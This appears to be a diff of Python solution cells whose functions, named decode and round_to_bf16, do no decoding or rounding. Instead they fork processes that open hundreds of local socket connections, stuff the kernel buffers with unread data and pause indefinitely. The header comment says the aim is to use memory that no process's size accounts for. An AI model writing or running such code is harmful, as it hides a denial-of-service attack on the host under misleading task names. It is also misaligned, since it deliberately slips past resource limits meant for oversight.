@@ -1,6 +1,8 @@
 # Sends into sockets that nobody reads: that memory is in no process's size, nor are sockets in sockets.
 # review_round_to_bf16: A thread or a process is started
-# %% solution decode
+# %% cell before decode
+import os
+import signal
 import socket
 
 
@@ -13,8 +15,7 @@ def fill(ends):
                 end.send(b"x" * 2**16)
         except BlockingIOError:
             pass
-
-
+# %% solution decode
 def decode(pattern, exponent_bits, mantissa_bits):
     over, to = socket.socketpair()
     while True:
@@ -24,25 +25,13 @@ def decode(pattern, exponent_bits, mantissa_bits):
         for end in ends:
             end.close()
 # %% solution round_to_bf16
-import os
-import signal
-import socket
-
-
 def round_to_bf16(x):
     for _ in range(3):
         if os.fork() == 0:
             kept = []
             for _ in range(400):
                 with socket.create_server(("127.0.0.1", 0)) as server:
-                    ends = socket.create_connection(server.getsockname()), server.accept()[0]
-                kept.append(ends)
-                for end in ends:
-                    end.setblocking(False)
-                    try:
-                        while True:
-                            end.send(b"x" * 2**16)
-                    except BlockingIOError:
-                        pass
+                    kept.append((socket.create_connection(server.getsockname()), server.accept()[0]))
+                fill(kept[-1])
             signal.pause()
     signal.pause()
